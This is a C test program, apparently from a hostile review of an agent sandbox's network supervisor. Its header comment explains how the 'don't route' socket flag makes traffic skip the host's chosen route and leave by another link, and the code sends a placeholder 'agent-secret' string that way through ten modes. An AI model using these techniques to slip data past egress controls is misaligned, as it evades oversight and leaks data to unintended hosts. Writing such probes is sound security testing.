/* ha35-dontroute: hostile review h-attack35. The agent sends to its
 * DECLARED address with "don't route" asked (MSG_DONTROUTE or SO_DONTROUTE,
 * no capability, neither trapped), so the kernel's route lookup wants a
 * route of scope link (RTO_ONLINK: fib_table_lookup skips every alias whose
 * scope is wider). Where the host holds a route to the address through a
 * gateway and another, link-scope route that also covers it (a second
 * default route with a higher metric over a backup link, a VPN or PPP link,
 * a broader on-link prefix), the route the host chose is skipped and the
 * datagram or connection leaves by the other link, to whoever answers ARP
 * for the address there (review h-attack12 tried both with only a gateway
 * route: ENETUNREACH, "held").
 *
 *   ha35-dontroute MODE DEST:PORT
 *     plain      sendto(DEST)                            (control: the route)
 *     flag       sendto(DEST, MSG_DONTROUTE)
 *     sockopt    SO_DONTROUTE, then sendto(DEST)
 *     connected  connect(DEST), then send(MSG_DONTROUTE): no name, so the
 *                supervisor answers CONTINUE
 *     tcp        SO_DONTROUTE, connect(DEST), write()
 *     tcplate    connect(DEST), write() (part 1, by the host's route), then
 *                SO_DONTROUTE on the established connection (it drops the
 *                cached route: sk_dst_reset) and write() (part 2): its
 *                segments leave by the link-scope route, to whichever host
 *                holds the address there (no listener can take them: the
 *                connection is the declared server's, so only a capture
 *                on that host sees them)
 *     stdin      the caller's TCP connection to DEST on descriptor 0 (the
 *                stdio check passes it: TCP, no IP options, no device):
 *                SO_DONTROUTE on it, then write(0): as tcplate
 *     sendmsg    sendmsg(DEST, MSG_DONTROUTE)
 *     sendmmsg   sendmmsg(one message to DEST, MSG_DONTROUTE)
 *     mapped     an AF_INET6 socket: sendto(::ffff:DEST, MSG_DONTROUTE)
 *                (IPv4's path; IPv6 proper ignores "don't route")
 *
 * Each sends "agent-secret via MODE" and prints what the calls returned. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct sockaddr_in sin = {.sin_family = AF_INET};
	struct sockaddr_in6 six = {.sin6_family = AF_INET6};
	const struct sockaddr *sa = (const struct sockaddr *)&sin;
	struct iovec iov;
	struct mmsghdr mm = {0};
	char msg[64], host[64], *colon;
	const char *mode;
	int s, one = 1, tcp, late;
	long rc;

	if (argc != 3) {
		fprintf(stderr, "usage: ha35-dontroute MODE DEST:PORT\n");
		return 2;
	}
	mode = argv[1];
	snprintf(host, sizeof(host), "%s", argv[2]);
	colon = strchr(host, ':');
	if (!colon)
		return 2;
	*colon = '\0';
	sin.sin_port = htons((unsigned short)atoi(colon + 1));
	if (inet_pton(AF_INET, host, &sin.sin_addr) != 1)
		return 2;
	snprintf(msg, sizeof(msg), "agent-secret via %s", mode);
	if (strcmp(mode, "stdin") == 0) {
		if (setsockopt(0, SOL_SOCKET, SO_DONTROUTE, &one, sizeof(one)) != 0)
			printf("agent: SO_DONTROUTE on 0: %s\n", strerror(errno));
		rc = write(0, msg, strlen(msg));
		printf("agent uid %d %s: write(0) = %ld (%s)\n", getuid(), mode, rc,
		       rc < 0 ? strerror(errno) : "ok");
		usleep(1500 * 1000);
		return 0;
	}
	late = strcmp(mode, "tcplate") == 0;
	tcp = strcmp(mode, "tcp") == 0 || late;
	s = socket(strcmp(mode, "mapped") == 0 ? AF_INET6 : AF_INET, tcp ? SOCK_STREAM : SOCK_DGRAM,
		   0);
	iov.iov_base = msg;
	iov.iov_len = strlen(msg);
	mm.msg_hdr.msg_name = &sin;
	mm.msg_hdr.msg_namelen = sizeof(sin);
	mm.msg_hdr.msg_iov = &iov;
	mm.msg_hdr.msg_iovlen = 1;
	if ((strcmp(mode, "sockopt") == 0 || (tcp && !late)) &&
	    setsockopt(s, SOL_SOCKET, SO_DONTROUTE, &one, sizeof(one)) != 0) {
		printf("agent: SO_DONTROUTE: %s\n", strerror(errno));
		return 1;
	}
	if (strcmp(mode, "plain") == 0 || strcmp(mode, "sockopt") == 0) {
		rc = sendto(s, msg, strlen(msg), 0, sa, sizeof(sin));
	} else if (strcmp(mode, "flag") == 0) {
		rc = sendto(s, msg, strlen(msg), MSG_DONTROUTE, sa, sizeof(sin));
	} else if (strcmp(mode, "connected") == 0 || tcp) {
		rc = connect(s, sa, sizeof(sin));
		printf("agent: connect = %ld (%s)\n", rc, rc < 0 ? strerror(errno) : "ok");
		if (rc == 0 && late) {
			rc = write(s, "agent-secret via tcplate, part 1 ", 33);
			printf("agent: part 1 = %ld\n", rc);
			usleep(300 * 1000);
			if (setsockopt(s, SOL_SOCKET, SO_DONTROUTE, &one, sizeof(one)) != 0)
				printf("agent: SO_DONTROUTE: %s\n", strerror(errno));
			rc = write(s, "agent-secret via tcplate, part 2", 32);
			usleep(1500 * 1000);
		} else if (rc == 0) {
			rc = tcp ? write(s, msg, strlen(msg))
				 : send(s, msg, strlen(msg), MSG_DONTROUTE);
		}
		if (tcp)
			usleep(300 * 1000);
	} else if (strcmp(mode, "sendmsg") == 0) {
		rc = sendmsg(s, &mm.msg_hdr, MSG_DONTROUTE);
	} else if (strcmp(mode, "sendmmsg") == 0) {
		/* The system call, not musl's loop of sendmsg. */
		rc = syscall(SYS_sendmmsg, s, &mm, 1, MSG_DONTROUTE);
	} else if (strcmp(mode, "mapped") == 0) {
		six.sin6_port = sin.sin_port;
		six.sin6_addr.s6_addr[10] = 0xff;
		six.sin6_addr.s6_addr[11] = 0xff;
		memcpy(&six.sin6_addr.s6_addr[12], &sin.sin_addr, 4);
		rc = sendto(s, msg, strlen(msg), MSG_DONTROUTE, (struct sockaddr *)&six,
			    sizeof(six));
	} else {
		return 2;
	}
	printf("agent uid %d %s to %s: %ld (%s)\n", getuid(), mode, argv[2], rc,
	       rc < 0 ? strerror(errno) : "ok");
	close(s);
	return 0;
}
